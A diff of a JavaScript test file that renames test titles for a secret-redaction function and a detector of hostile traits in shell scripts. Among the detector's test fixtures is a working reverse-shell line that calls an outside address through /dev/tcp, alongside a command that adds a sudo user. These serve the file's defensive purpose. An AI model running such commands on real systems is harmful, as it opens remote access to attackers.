@@ -38,7 +38,7 @@ test.each([
     'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX',
     'XXXXXXXXXXXXXXXXXXXXXXXX',
   ],
-])('%s is taken out of %j', async (kind, text, secret) => {
+])('%s is redacted from %j', async (kind, text, secret) => {
   const { text: out, kinds } = await redact(text);
   expect(out).not.toContain(secret);
   expect(kinds).toContain(kind);
@@ -49,11 +49,11 @@ test.each([
   'PASSWORD=$DB_PASS',
   'apt-get update && apt-get -y upgrade',
   'systemctl restart nginx',
-])('%j holds no secret', async (text) => {
+])('%j contains no secret', async (text) => {
   expect(await redact(text)).toEqual({ text, kinds: [] });
 });
 
-test('no text makes it slow or break', async () => {
+test('redaction stays fast on any text', async () => {
   const piece = fc.constantFrom(
     'password=',
     'a',
@@ -77,9 +77,9 @@ test('no text makes it slow or break', async () => {
       fc.array(piece, { maxLength: 60 }),
       fc.integer({ min: 1, max: 400 }),
       async (pieces, times) => {
-        const began = Date.now();
+        const startMs = Date.now();
         await redact(pieces.join('').repeat(times));
-        return Date.now() - began < 3000;
+        return Date.now() - startMs < 3000;
       },
     ),
     { numRuns: 60 },
@@ -98,7 +98,7 @@ test.each([
   ],
   ['adds a user or a key', 'useradd -m -G sudo x'],
   ['opens a reverse shell', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'],
-])('%s is named, with its line', (name, line) => {
+])('%s is reported with its line', (name, line) => {
   expect(traitsOf(`#!/bin/sh\n\n${line}\n`)).toContainEqual(expect.objectContaining({ name, line: 3 }));
 });
 
@@ -108,7 +108,7 @@ test('an everyday script has no traits', () => {
   ).toEqual([]);
 });
 
-test('the digest does not change with line ends and blank lines, but with every word', () => {
+test('the digest ignores line endings and trailing blanks, but changes with any word', () => {
   expect(scriptDigest('a\r\nb  \r\n\r\n')).toBe(scriptDigest('a\nb'));
   expect(scriptDigest('a\nb')).not.toBe(scriptDigest('a\nc'));
 });
